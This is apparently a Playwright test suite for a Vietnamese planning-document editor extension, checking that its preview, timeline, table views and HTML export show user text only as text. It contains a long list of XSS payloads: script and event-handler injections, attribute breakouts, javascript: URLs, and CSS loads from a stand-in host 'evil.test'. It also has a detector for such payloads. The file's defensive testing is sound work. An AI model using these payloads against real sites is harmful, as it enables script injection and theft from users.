import { strict as assert } from 'node:assert';
import type { Browser, Page } from 'playwright-core';
import { pageBody } from '../../client/preview/page-body';
import { tableBody } from '../../client/table-editor/body';
import { timelineBody } from '../../client/timeline/body';
import { shellDocument } from '../../client/views/shell-html';
import type { ExportResult, GridResult, PreviewResult, TimelineResult } from '../../server/protocol';
import { attacks } from '../exports/attacks';
import { startClient, type TestClient } from '../support/lsp-client';
import { startBrowser } from '../vscode/workbench/browser';
import { openWebView, type WebView } from './web-view';

const uri = 'file:///w/a.kehoach';

/** What sets `window.stung`, were it run, and what breaks out of places where text stands. */
const stings: readonly string[] = [
  ...attacks,
  '<script>window.stung=1</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror="window.stung=1">',
  '"><svg onload=window.stung=1>',
  "'><body onpageshow='window.stung=1'>",
  '" autofocus onfocus="window.stung=1" x="',
  "' style='position:fixed;inset:0;background:url(//evil.test/y)' x='",
  '`onmouseover=window.stung=1`',
  '<a href="javascript:window.stung=1">bấm</a>',
  'javascript:window.stung=1//',
  'data:text/html,<script>window.stung=1</script>',
  '<iframe srcdoc="<script>parent.stung=1</script>">',
  '<math><mi xlink:href="javascript:window.stung=1">x</mi></math>',
  '<style>*{display:none}</style>',
  '}</style><style>@import "//evil.test/z";',
  'x;background:url(//evil.test/w)',
  '</title><script>window.stung=1</script>',
  '</template></textarea></noscript><script>window.stung=1</script>',
  '</text></g></svg><script>window.stung=1</script>',
  '<![CDATA[<script>window.stung=1</script>]]>',
  '<!--><script>window.stung=1</script>-->',
  '${window.stung=1}',
  '&lt;script&gt;window.stung=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.stung=1&#62;',
  '“ngoặc kép” ‘đơn’ «góc» „thấp‟ ＜script＞ ‹x›',
  'trước\u2028window.stung=1\u2029sau',
  'nửa chữ \ud83d và \udc00 lẻ',
  'đảo chiều \u202egnuts\u202c \u2066x\u2069',
  'không\u0000thấy\u0008\u001b[31m',
  '\ufeffđầu tệp\u200b\u200d',
];

const oneLine = (text: string): string => text.replaceAll(/[\r\n]+/g, ' ');

/** The stings in every place where a plan has text. */
const plan = [
  `Kế hoạch: ${stings.map(oneLine).join(' ')}`,
  '  Thời kỳ: năm 2025',
  `  Cơ quan ban hành: ${oneLine(stings[12]!)}`,
  'Nội dung:',
  ...stings.map((it) => `Đoạn ${oneLine(it)}`),
  `Phụ lục: ${oneLine(stings[11]!)}`,
  '  Cột: STT = số thứ tự',
  `  Cột: ${oneLine(stings[13]!)} = nhiệm vụ`,
  '  Cột: Chủ trì = chủ trì',
  '  Cột: Thời hạn = thời hạn',
  ...stings.flatMap((it, at) => [
    `Phần: ${oneLine(it)}`,
    `Nhiệm vụ ${at + 1}: ${oneLine(it)}`,
    `  Chủ trì: ${oneLine(it)}`,
    `  Thời hạn: Quý I/2025 ${oneLine(it)}`,
  ]),
  '',
].join('\n');

/** What must never come of a text: elements that act or load, attributes that run. */
const harm = `(() => {
  const wrong = [...document.querySelectorAll('script, img, iframe, object, embed, link, style, base, form, a, foreignObject, use, animate, set, meta')]
    .filter((it) => !it.closest('head') && it.id !== 'choice' && !(it.tagName === 'SCRIPT' && it.nonce === 'once'))
    .map((it) => it.outerHTML.slice(0, 100));
  for (const it of document.querySelectorAll('*'))
    for (const { name, value } of it.attributes)
      if (/^on|^srcdoc$|^formaction$/i.test(name) || (/^(?:xlink:)?href$|^src$/i.test(name) && /^\\s*(?:javascript|data):/i.test(value)))
        wrong.push(name + '=' + value);
  if (window.stung) wrong.push('it ran');
  return wrong;
})()`;

describe('text of a plan that would be code', function () {
  this.timeout(90_000);
  let browser: Browser;
  let client: TestClient;

  before(async () => {
    browser = await startBrowser();
    client = await startClient();
    await client.open(uri, plan);
  });
  after(async () => {
    client.close();
    await browser.close();
  });

  /** Nothing ran, nothing was loaded, nothing but text came of the text. */
  const isHarmless = async (page: Page, asked: readonly string[]): Promise<void> => {
    await page.mouse.move(300, 300);
    await page.waitForTimeout(200);
    assert.deepEqual(await page.evaluate(harm), []);
    assert.deepEqual(
      asked.filter((it) => !it.startsWith('http://view.test/') && !it.startsWith('data:image/svg+xml')),
      [],
    );
  };
  const watched = (page: Page): string[] => {
    const asked: string[] = [];
    page.on('request', (it) => asked.push(it.url()));
    page.on('dialog', (it) => {
      asked.push(`dialog: ${it.message()}`);
      void it.dismiss();
    });
    return asked;
  };
  const texts = {
    chart: 'Xem',
    timeline: 'Tiến độ',
    workload: 'Khối lượng',
    section: 'Phần',
    agency: 'Cơ quan',
    all: 'Tất cả',
    picture: stings[12]!,
  };

  const views: readonly [
    what: string,
    open: () => Promise<WebView>,
    show: (view: WebView) => Promise<unknown>,
    shown: string,
  ][] = [
    [
      'the preview',
      () =>
        openWebView(browser, {
          name: 'preview',
          title: stings[0]!,
          data: { uri: stings[14]! },
          body: pageBody(stings[13]!, stings[11]!),
        }),
      async (view) => {
        const result = await client.request<PreviewResult>('kehoach/preview', {
          uri,
          known: null,
          mayHold: false,
        });
        await view.tell({ kind: 'page', result });
        await view.tell({ kind: 'caret', line: 5, reveal: true });
      },
      'td',
    ],
    ...(['timeline', 'workload'] as const).map((chart): (typeof views)[number] => [
      `the ${chart}`,
      () =>
        openWebView(browser, {
          name: 'timeline',
          title: stings[0]!,
          drawsPictures: true,
          data: { uri: stings[14]! },
          body: timelineBody(texts),
        }),
      async (view) => {
        const choice = { chart, section: null, agency: null };
        const result = await client.request<TimelineResult>('kehoach/timeline', { uri, ...choice });
        await view.tell({ kind: 'picture', choice, result });
        await view.tell({ kind: 'draw' });
        await view.page.waitForFunction(`window.sent.some((it) => it.kind === 'drawn')`);
      },
      'svg text',
    ]),
    [
      'the table view',
      () =>
        openWebView(browser, {
          name: 'table',
          title: stings[0]!,
          data: {},
          body: tableBody(stings[13]!, stings[11]!),
        }),
      async (view) => {
        const grid = await client.request<GridResult>('kehoach/grid', { uri });
        await view.tell({ kind: 'grid', grid });
        await view.tell({ kind: 'refused', reason: stings[12]! });
        await view.page.getByRole('gridcell').nth(2).click();
        await view.page.keyboard.press('F2');
      },
      '[role="gridcell"]',
    ],
  ];

  for (const [what, open, show, shown] of views)
    it(`stays text in ${what}`, async () => {
      const view = await open();
      const asked = watched(view.page);
      await show(view);
      await view.page.waitForSelector(shown);
      await isHarmless(view.page, asked);
      const text = (await view.page.locator('main').innerText()).replaceAll(/\s+/g, ' ');
      // Long texts are cut short beside the bars.
      if (!shown.startsWith('svg'))
        assert.ok(text.includes('<script>window.stung=1</script>'), text.slice(0, 300));
      assert.deepEqual(view.complaints, []);
      await view.page.close();
    });

  it('stays text in the HTML export, which may run nothing even if it did not', async () => {
    const { content } = await client.request<ExportResult>('kehoach/export', { uri, format: 'html' });
    const html = Buffer.from(content, 'base64').toString();
    const page = await browser.newPage();
    const asked = watched(page);
    await page.setContent(html);
    await isHarmless(page, asked);
    assert.ok((await page.locator('main').innerText()).includes('<script>window.stung=1</script>'));
    assert.match(
      html,
      /http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"/,
    );
    await page.close();
  });

  it('would be noticed, were it not text', async () => {
    for (const planted of [
      '<img src=x onerror="window.stung=1">',
      '<p onclick="1">x</p>',
      '<a href="javascript:1">x</a>',
    ]) {
      const page = await browser.newPage();
      await page.setContent(planted);
      await assert.rejects(isHarmless(page, []), planted);
      await page.close();
    }
  });

  it('may draw a picture that is opened by itself', async () => {
    for (const chart of ['timeline', 'workload']) {
      const choice = { chart, section: null, agency: null };
      const { svg } = await client.request<TimelineResult>('kehoach/timeline', { uri, ...choice });
      const page = await browser.newPage();
      const asked = watched(page);
      await page.goto(`data:image/svg+xml;charset=utf-8,${encodeURIComponent(svg)}`);
      // A browser that reads it as XML shows a page of errors instead, were it not well-formed.
      assert.equal(await page.evaluate('document.documentElement.tagName'), 'svg');
      assert.equal(
        await page.evaluate(`document.querySelectorAll('script, foreignObject, parsererror').length`),
        0,
      );
      await isHarmless(page, asked);
      await page.close();
    }
  });
});

describe('the policy of a web view', () => {
  const policyOf = (drawsPictures: boolean): string => {
    const html = shellDocument(
      { name: 'x', title: 't', body: '', data: {}, drawsPictures },
      {
        script: 'https://own.test/x.js',
        style: 'https://own.test/x.css',
        source: 'https://own.test',
        nonce: 'abc',
      },
    );
    return /Content-Security-Policy" content="([^"]*)"/.exec(html)![1]!.replaceAll('&#39;', "'");
  };

  for (const [what, drawsPictures, pictures] of [
    ['preview and table', false, ''],
    ['timeline, which draws its PNG', true, '; img-src blob: data:'],
  ] as const)
    it(`lets run one script, by its nonce, and load nothing else: ${what}`, () => {
      assert.equal(
        policyOf(drawsPictures),
        `default-src 'none'; style-src https://own.test; script-src 'nonce-abc'${pictures}`,
      );
    });

  it('is broken by no title, address or value', () => {
    for (const sting of stings) {
      const html = shellDocument(
        { name: 'x', title: sting, body: '', data: { uri: sting } },
        { script: sting, style: sting, source: sting, nonce: sting },
      );
      assert.equal(html.match(/<script /g)!.length, 1, sting);
      assert.equal(html.match(/<(?!!doctype|\/?(?:html|head|meta|title|link|body|script)\b)/gi), null, sting);
    }
  });
});
